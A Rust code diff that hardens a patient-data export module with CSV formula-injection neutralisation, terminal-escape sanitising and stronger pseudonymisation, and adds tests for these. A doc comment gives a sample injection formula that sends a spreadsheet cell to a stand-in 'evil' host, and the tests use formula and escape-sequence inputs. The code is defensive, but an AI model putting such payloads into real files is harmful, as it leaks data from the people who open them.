@@ -1,6 +1,7 @@
 //! Export: render patients, assessments or sessions as CSV or JSON, optionally pseudonymised, and write the file
 //! (mode 0600) inside the store's audited export transaction.
 
+use std::borrow::Cow;
 use std::collections::BTreeMap;
 use std::io::Write;
 use std::os::unix::fs::OpenOptionsExt as _;
@@ -9,7 +10,7 @@ use std::path::Path;
 use chrono::NaiveDate;
 use serde_json::Value;
 
-use crate::domain::{Assessment, Patient, SessionLog};
+use crate::domain::{Assessment, Condition, Patient, SessionLog};
 use crate::store::export::{ExportData, ExportKind};
 use crate::store::{Store, StoreError};
 
@@ -45,8 +46,54 @@ fn num(x: f64) -> String {
     }
 }
 
-/// Each patient's day 0 in a pseudonymised export (`None`: not pseudonymised). See [`ExportData::day_zero`].
-type DayZero<'a> = Option<&'a BTreeMap<String, NaiveDate>>;
+/// The CSV columns that hold numbers Praxis wrote itself (never text a user typed): left as they are, so a negative
+/// day number stays a number. Every other column is text and passes through [`text_cell`].
+const NUMBER_COLUMNS: [&str; 8] = [
+    "score",
+    "birth_year",
+    "day",
+    "minutes",
+    "repetitions",
+    "level",
+    "success_rate",
+    "rpe",
+];
+
+/// A text cell that a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage
+/// return: `=HYPERLINK("http://evil/?"&A1)`, `@SUM(...)`, `-2+3`) gets a leading `'`, which makes the spreadsheet
+/// show it as text. This is OWASP's advice for CSV injection (<https://owasp.org/www-community/attacks/CSV_Injection>).
+/// The cell is then no longer exactly the stored text; JSON exports are exact.
+pub fn neutralise_formula(cell: &str) -> Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// A CSV text cell: characters a terminal would obey written visibly (`\u{1b}`; newlines and tabs kept), so the CSV
+/// is safe to print, then [`neutralise_formula`]. JSON exports keep the exact text.
+fn text_cell(cell: &str) -> String {
+    let shown = crate::domain::text::visible_lines(cell);
+    neutralise_formula(&shown).into_owned()
+}
+
+/// A pseudonymised export's day 0 and pseudonym of each patient (`None`: not pseudonymised). See
+/// [`ExportData::day_zero`] and [`ExportData::pseudonyms`].
+type DayZero<'a> = Option<&'a ExportData>;
+
+/// The code as exported: the patient's pseudonym when pseudonymised, else the code.
+fn exported_code(code: &str, pseudo: DayZero<'_>) -> String {
+    match pseudo {
+        // Every exported patient has one; never fall back to the code.
+        Some(data) => data
+            .pseudonyms
+            .get(code)
+            .cloned()
+            .unwrap_or_else(|| "S-unknown".into()),
+        None => code.to_string(),
+    }
+}
 
 /// Days from the patient's day 0 to `date`, as a pseudonymised export shows dates.
 fn day_number(day_zero: &BTreeMap<String, NaiveDate>, code: &str, date: NaiveDate) -> Value {
@@ -55,12 +102,16 @@ fn day_number(day_zero: &BTreeMap<String, NaiveDate>, code: &str, date: NaiveDat
         .map_or(Value::Null, |zero| (date - *zero).num_days().into())
 }
 
-/// In a pseudonymised export, every exact date among the condition's facts (`onset_date`: any key ending in
-/// `_date`) becomes its month (`onset_month: "2025-09"`) and its day number (`onset_day: 0`).
-fn coarsen_fact_dates(facts: &mut Value, code: &str, day_zero: &BTreeMap<String, NaiveDate>) {
+/// The condition's facts in a pseudonymised export: free-text facts ([`Condition::FREE_TEXT_FACTS`]) are dropped,
+/// and every exact date (`onset_date`: any key ending in `_date`) becomes its month (`onset_month: "2025-09"`) and
+/// its day number (`onset_day: 0`).
+fn pseudonymise_facts(facts: &mut Value, code: &str, day_zero: &BTreeMap<String, NaiveDate>) {
     let Some(o) = facts.as_object_mut() else {
         return;
     };
+    for k in Condition::FREE_TEXT_FACTS {
+        o.remove(k);
+    }
     let keys: Vec<String> = o.keys().filter(|k| k.ends_with("_date")).cloned().collect();
     for key in keys {
         let stem = &key[..key.len() - "_date".len()];
@@ -85,10 +136,14 @@ fn facts(p: &Patient, pseudo: DayZero<'_>) -> (String, String) {
         .and_then(|o| o.remove("kind"))
         .map(|k| text(Some(k)))
         .unwrap_or_default();
-    if let Some(zero) = pseudo {
-        coarsen_fact_dates(&mut v, &p.code, zero);
+    if let Some(data) = pseudo {
+        pseudonymise_facts(&mut v, &p.code, &data.day_zero);
     }
-    (kind, v.to_string())
+    // Valid JSON whose text holds nothing a terminal obeys, so the CSV cell needs no further escaping.
+    (
+        kind,
+        crate::domain::text::json_safe(&v.to_string()).into_owned(),
+    )
 }
 
 fn patient_table(ps: &[Patient], pseudo: DayZero<'_>) -> (Vec<&'static str>, Vec<Vec<String>>) {
@@ -96,7 +151,7 @@ fn patient_table(ps: &[Patient], pseudo: DayZero<'_>) -> (Vec<&'static str>, Vec
         .iter()
         .map(|p| {
             let (kind, facts) = facts(p, pseudo);
-            let mut r = vec![p.code.clone()];
+            let mut r = vec![exported_code(&p.code, pseudo)];
             if pseudo.is_some() {
                 r.push(birth_band(p.birth_year));
             } else {
@@ -142,9 +197,17 @@ fn assessment_table(
     let rows = xs
         .iter()
         .map(|a| {
-            let mut r = vec![a.patient_code.clone(), a.instrument.clone(), num(a.score)];
+            let mut r = vec![
+                exported_code(&a.patient_code, pseudo),
+                a.instrument.clone(),
+                num(a.score),
+            ];
             match pseudo {
-                Some(zero) => r.push(text(Some(day_number(zero, &a.patient_code, a.date)))),
+                Some(data) => r.push(text(Some(day_number(
+                    &data.day_zero,
+                    &a.patient_code,
+                    a.date,
+                )))),
                 None => r.extend([
                     a.date.to_string(),
                     a.assessor.clone().unwrap_or_default(),
@@ -174,11 +237,15 @@ fn session_table(xs: &[SessionLog], pseudo: DayZero<'_>) -> (Vec<&'static str>, 
         .iter()
         .map(|s| {
             let when = match pseudo {
-                Some(zero) => text(Some(day_number(zero, &s.patient_code, s.started_at.date()))),
+                Some(data) => text(Some(day_number(
+                    &data.day_zero,
+                    &s.patient_code,
+                    s.started_at.date(),
+                ))),
                 None => s.started_at.format("%Y-%m-%dT%H:%M:%S").to_string(),
             };
             let mut r = vec![
-                s.patient_code.clone(),
+                exported_code(&s.patient_code, pseudo),
                 when,
                 s.protocol_id.clone(),
                 s.minutes.to_string(),
@@ -213,10 +280,12 @@ fn session_table(xs: &[SessionLog], pseudo: DayZero<'_>) -> (Vec<&'static str>, 
     (h, rows)
 }
 
-/// Pseudonymise one JSON record: drop the personal fields and record-keeping times, give the birth year as its
-/// 5-year band, exact dates as day numbers from the patient's day 0 (`date`, `started_at` -> `day`) and the
-/// condition's dates as month and day number.
-fn pseudonymise(mut v: Value, day_zero: &BTreeMap<String, NaiveDate>) -> Value {
+/// Pseudonymise one JSON record: the patient's code becomes their pseudonym; drop the personal fields, the
+/// record-keeping times and version, and free-text facts; give the birth year as its 5-year band, exact dates as
+/// day numbers from the patient's day 0 (`date`, `started_at` -> `day`) and the condition's dates as month and day
+/// number.
+fn pseudonymise(mut v: Value, data: &ExportData) -> Value {
+    let day_zero = &data.day_zero;
     let Some(o) = v.as_object_mut() else {
         return v;
     };
@@ -228,6 +297,7 @@ fn pseudonymise(mut v: Value, day_zero: &BTreeMap<String, NaiveDate>) -> Value {
         "id",
         "created_at",
         "updated_at",
+        "version",
     ] {
         o.remove(k);
     }
@@ -251,7 +321,12 @@ fn pseudonymise(mut v: Value, day_zero: &BTreeMap<String, NaiveDate>) -> Value {
         }
     }
     if let Some(c) = o.get_mut("condition") {
-        coarsen_fact_dates(c, &code, day_zero);
+        pseudonymise_facts(c, &code, day_zero);
+    }
+    for k in ["code", "patient_code"] {
+        if o.contains_key(k) {
+            o.insert(k.into(), exported_code(&code, Some(data)).into());
+        }
     }
     v
 }
@@ -272,7 +347,8 @@ impl Rendered {
     }
 }
 
-/// Render the export. Pure: no I/O. JSON is an array laid out exactly as `serde_json::to_vec_pretty` lays it out.
+/// Render the export. Pure: no I/O. JSON is an array laid out exactly as `serde_json::to_vec_pretty` lays it out,
+/// except that characters a terminal would obey are written as `\uXXXX` escapes (the same values).
 pub fn render(
     kind: ExportKind,
     data: &ExportData,
@@ -290,10 +366,7 @@ pub fn render(
             };
             let values = values?;
             let values: Vec<Value> = if pseudo {
-                values
-                    .into_iter()
-                    .map(|v| pseudonymise(v, &data.day_zero))
-                    .collect()
+                values.into_iter().map(|v| pseudonymise(v, data)).collect()
             } else {
                 values
             };
@@ -307,7 +380,9 @@ pub fn render(
             let mut out = b"[\n".to_vec();
             let mut ends = Vec::with_capacity(values.len());
             for (i, v) in values.iter().enumerate() {
-                let one = serde_json::to_string_pretty(v)?;
+                let pretty = serde_json::to_string_pretty(v)?;
+                // The exact values, safe to print on a terminal (see text::json_safe).
+                let one = crate::domain::text::json_safe(&pretty);
                 for (j, line) in one.lines().enumerate() {
                     if j > 0 {
                         out.push(b'\n');
@@ -328,7 +403,7 @@ pub fn render(
             })
         }
         Format::Csv => {
-            let zero = pseudo.then_some(&data.day_zero);
+            let zero = pseudo.then_some(data);
             let (headers, rows) = match kind {
                 ExportKind::Patients => patient_table(&data.patients, zero),
                 ExportKind::Assessments => assessment_table(&data.assessments, zero),
@@ -338,7 +413,14 @@ pub fn render(
             w.write_record(&headers)?;
             let mut ends = Vec::with_capacity(rows.len());
             for r in rows {
-                w.write_record(&r)?;
+                for (cell, h) in r.iter().zip(&headers) {
+                    if NUMBER_COLUMNS.contains(h) {
+                        w.write_field(cell)?;
+                    } else {
+                        w.write_field(text_cell(cell).as_bytes())?;
+                    }
+                }
+                w.write_record(None::<&[u8]>)?;
                 w.flush()?;
                 ends.push(w.get_ref().len());
             }
@@ -487,6 +569,63 @@ mod tests {
         assert_eq!(birth_band(1958), "1955-1959");
         assert_eq!(birth_band(1955), "1955-1959");
         assert_eq!(birth_band(1960), "1960-1964");
+    }
+
+    #[test]
+    fn formulas_in_text_cells_are_neutralised_numbers_are_not() {
+        for (cell, want) in [
+            ("=1+1", "'=1+1"),
+            ("+1", "'+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("a=1", "a=1"),
+            ("", ""),
+        ] {
+            assert_eq!(neutralise_formula(cell), want);
+        }
+        // A pseudonymised session before the patient's day 0 has a negative day: a number column, left alone.
+        let code = "P-0001".to_string();
+        let day0 = NaiveDate::from_ymd_opt(2026, 1, 10).unwrap();
+        let data = ExportData {
+            sessions: vec![SessionLog {
+                id: 1,
+                patient_code: code.clone(),
+                started_at: NaiveDate::from_ymd_opt(2026, 1, 7)
+                    .unwrap()
+                    .and_hms_opt(9, 0, 0)
+                    .unwrap(),
+                protocol_id: "balance-gait-older".into(),
+                minutes: 30,
+                repetitions: 40,
+                level: None,
+                success_rate: None,
+                rpe: None,
+                notes: "=cmd\u{1b}[2J".into(),
+                clinician: Some("-me".into()),
+            }],
+            day_zero: [(code.clone(), day0)].into(),
+            pseudonyms: [(code, "S-000000000001".to_string())].into(),
+            ..ExportData::default()
+        };
+        let csv = |pseudo| {
+            String::from_utf8(
+                render(ExportKind::Sessions, &data, Format::Csv, pseudo)
+                    .unwrap()
+                    .bytes,
+            )
+            .unwrap()
+        };
+        assert_eq!(
+            csv(true).lines().nth(1),
+            Some("S-000000000001,-3,balance-gait-older,30,40,,,")
+        );
+        assert!(
+            csv(false).contains(",'=cmd\\u{1b}[2J,'-me"),
+            "{}",
+            csv(false)
+        );
     }
 
     fn store_with_assessments(n: usize) -> (tempfile::TempDir, Store) {
